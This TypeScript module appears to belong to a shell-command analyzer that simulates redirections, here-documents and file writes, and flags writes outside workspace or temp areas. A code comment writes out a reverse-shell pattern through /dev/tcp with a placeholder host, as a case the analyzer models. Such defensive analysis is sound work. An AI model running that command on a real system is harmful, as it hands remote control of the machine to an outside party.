import { dirname } from '../paths.ts';
import { locations } from '../touch.ts';
import { classify } from '../zones.ts';
import { partsText } from './expand.ts';
import { noticeChange } from './files.ts';
import { closeInput, inputOf } from './input.ts';
import type { HereDoc, HereString, Redirect, Redirection } from './front.ts';
import { open, substitute, type Place, type Sink } from './open-file.ts';
import { joinStates, rerouted, type Input, type Io, type Outcome } from './outcome.ts';
import type { Run } from './run.ts';
import { openSinks } from './sinks.ts';
import type { State } from './state.ts';
import { anyText, concat, known, lost, mixed, type Text, unknownFrom } from './value.ts';
import { textOf } from './words.ts';

/** What redirections have opened. */
interface Opening {
  /** Where a descriptor leads. */
  readonly placeOf: (number: number) => Place;
  /** Descriptors of which that is known. */
  readonly numbers: ReadonlySet<number>;
  readonly sinks: readonly Sink[];
  readonly input: Input | undefined;
  /** The file that it comes from. */
  readonly inputFile: Text | undefined;
  /** Something may not be opened, and nothing runs then. */
  readonly mayFail: boolean;
  /** Where messages led when the shell had to say so: `2>&1 >&3`. */
  readonly complaints: ReadonlySet<Place>;
}

/**
 * Runs a command with its redirections, one after the other: files they open are effects, what is printed into a file is remembered, and what is printed
 * to another descriptor arrives where that leads (`{ echo … >&2; } 2>&1 | sh`).
 */
export function withRedirects(
  redirects: readonly Redirection[],
  state: State,
  io: Io,
  run: Run,
  body: (state: State, io: Io) => Outcome,
): Outcome {
  if (redirects.length === 0) return body(state, io);
  const { placeOf, numbers, sinks, input, inputFile, mayFail, complaints } = openAll(redirects, state, io, run);
  const place = placeOf(1);
  const isOwn = place === 'own';
  const isLost = place === 'lost' || mayBeClosed(place);
  const leading = (to: Place): ReadonlySet<number> => new Set([...numbers].filter((number) => number > 1 && placeOf(number) === to));
  const descriptors = leading(place);
  // What goes astray inside may have come out here.
  const { astray } = run;
  if (isLost) run.astray += 1;
  // Nothing of it runs where a file cannot be opened, and none is made.
  const unopened = mayFail ? state.fork() : undefined;
  const opened = openSinks(sinks, state, run);
  const files = inputFile === undefined ? [] : locations(known(inputFile) ?? '', state, run).map(({ real }) => real);
  const before = files.map((path) => state.files.get(path));
  const isWanted = isOwn ? io.capture : !isLost;
  const outcome = body(state, {
    // What a command writes into the file that it reads it may read too.
    input: input && files.some(opened.has) ? { ...input, text: unknownFrom('unknown-output') } : input,
    ...(input === io.input ? {} : { isInputOpened: true }),
    capture: isWanted,
    ...(isWanted || isOwn ? { descriptors } : {}),
    ...(mayBeClosed(place) || (isOwn && io.isClosed) ? { isClosed: true } : {}),
  });
  const isMixed = complaints.has(place) || (descriptors.size > 0 && run.astray > astray);
  const printed = isMixed ? mixed(outcome.out) : outcome.out;
  for (const [i, path] of files.entries()) for (const end of new Set([outcome.ok, outcome.fail])) noticeChange(path, before[i], end, run);
  if (input !== io.input) closeInput(input, [outcome.ok, outcome.fail], run);
  opened.close([outcome.ok, outcome.fail], isSink(place) ? place : undefined, printed);
  if (typeof place === 'object' && !isSink(place)) substitute(place, printed, state, run);
  const { ok } = outcome;
  const fail = joinStates(outcome.fail, unopened);
  // Where a file cannot be opened nothing is printed.
  if (isOwn) return { ok, fail, out: !io.capture ? outcome.out : mayFail && printed !== '' ? lost(printed) : printed };
  // Standard output is gone, and what is printed to another descriptor takes its place: `2>&1 >/dev/null`.
  const isReplaced = place === 'unknown' || leading('own').size > 0 || complaints.has('own');
  return { ok, fail, out: io.capture && isReplaced ? anyText : '' };
}

function openAll(redirects: readonly Redirection[], state: State, io: Io, run: Run): Opening {
  const places = new Map<number, Place>();
  const complaints = new Set<Place>();
  const sinks: Sink[] = [];
  const inherited = (number: number): Place =>
    number === 1 || io.descriptors?.has(number) ? 'own' : number === 2 && !state.options.has(rerouted) ? 'lost' : 'unknown';
  const placeOf = (number: number): Place => places.get(number) ?? inherited(number);
  let { input } = io;
  let inputFile: Text | undefined;
  let isConnected = false;
  let mayFail = false;
  // To dash what stands before `&>` is a command in the background, and what follows belongs to none.
  let isParted = false;
  for (const redirect of redirects) {
    if (redirect.type !== 'Redirect') {
      const isInput =
        redirect.descriptor === undefined || (redirect.descriptor.type === 'FileDescriptor' && redirect.descriptor.value === 0);
      const text = redirect.type === 'HereDoc' ? hereDocument(redirect, state, run) : hereString(redirect, state, run);
      if (isInput) input = inputOf(text);
      continue;
    }
    // `bash >& /dev/tcp/host/port 0>&1`: what the other side sends is what is read.
    if (isConnected && isInputCopy(redirect)) input = inputOf(unknownFrom('download'));
    const opened = open(redirect, state, io, run);
    const place = opened.copyOf === undefined ? opened.place : placeOf(opened.copyOf);
    isConnected ||= opened.isConnection === true;
    isParted ||= state.posix && redirect.operator.startsWith('&>');
    if (mayNotOpen(redirect, opened, state, run) || (opened.copyOf !== undefined && mayBeClosed(place))) {
      mayFail = true;
      complaints.add(placeOf(2));
    }
    if (opened.input !== undefined) {
      input = inputOf(opened.input);
      inputFile = opened.file;
    }
    if (isSink(opened.place) && opened.place.target !== '/dev/null') sinks.push(opened.place);
    if (place !== undefined) for (const number of opened.numbers ?? [1]) places.set(number, place);
    if (opened.closes !== undefined) places.set(opened.closes, 'closed');
  }
  if (isParted) places.set(1, 'unknown');
  const numbers = new Set([...places.keys(), ...(io.descriptors ?? [])]);
  return { placeOf, numbers, sinks, input, inputFile, mayFail, complaints };
}

const isSink = (place: Place | undefined): place is Sink => typeof place === 'object' && !('type' in place);

const mayBeClosed = (place: Place | undefined): boolean => place === 'closed' || place === 'unknown';

function mayNotOpen({ operator, target }: Redirect, opened: { readonly file?: Text }, state: State, run: Run): boolean {
  const path = opened.file === undefined ? undefined : known(opened.file);
  if (!target || path === '/dev/null') return false;
  if (path === undefined) return opened.file !== undefined;
  if (operator === '<')
    return locations(path, state, run).some(({ typed, real }) => {
      const made = state.file(typed);
      return (made === undefined || made.unsure === true) && run.world.kind(real) === undefined;
    });
  return (
    state.stirred ||
    locations(path, state, run).some(({ typed, real }) => {
      // Who may write outside the project, and whether that disk is read-only, is not asked.
      const zones = classify(real, run.places);
      if (!zones.includes('workspace') && !zones.includes('temp') && !zones.includes('safe-device')) return true;
      for (let folder = dirname(typed); folder !== '/'; folder = dirname(folder))
        if (state.file(folder)) return !state.file(folder)?.directory;
      const parent = run.world.kind(dirname(real));
      return run.world.kind(real) === 'directory' || (parent !== 'directory' && parent !== 'link');
    })
  );
}

function hereString({ target }: HereString, state: State, run: Run): Text {
  return target ? concat(textOf(target, state, run), '\n') : '\n';
}

function hereDocument(node: HereDoc, state: State, run: Run): Text {
  const isQuoted = node.delimiter?.quoted ?? false;
  const text = isQuoted || node.body.parts === undefined ? node.body.text : partsText(node.body.parts, state, run);
  return node.operator === '<<-' && typeof text === 'string' ? text.replace(/^\t+/gm, '') : text;
}

function isInputCopy({ operator, target, descriptor }: Redirect): boolean {
  const into = descriptor?.type === 'FileDescriptor' ? descriptor.value : operator === '<&' ? 0 : 1;
  return into === 0 && (operator === '>&' || operator === '<&') && /^\d+$/.test(target?.text ?? '');
}
